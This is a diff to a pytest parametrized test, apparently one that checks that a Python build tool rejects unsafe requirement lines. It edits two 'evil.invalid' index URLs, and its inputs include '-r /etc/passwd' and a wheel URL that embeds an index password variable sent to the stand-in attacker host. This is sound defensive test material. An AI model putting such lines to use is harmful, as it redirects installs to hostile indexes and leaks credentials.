@@ -124,8 +124,8 @@ def test_what_a_build_needs_and_has_no_wheel_is_built_too_and_noted(
 @pytest.mark.parametrize(
     "line",
     [
-        "--index-url http://evil.invalid/simple",
-        "--extra-index-url=http://evil.invalid/simple",
+        "--index-url http://evil.invalid/packages",
+        "--extra-index-url=http://evil.invalid/packages",
         "--find-links /tmp",
         "-r /etc/passwd",
         "x @ https://evil.invalid/${UV_INDEX_LAYER_1_PASSWORD}/x.whl",
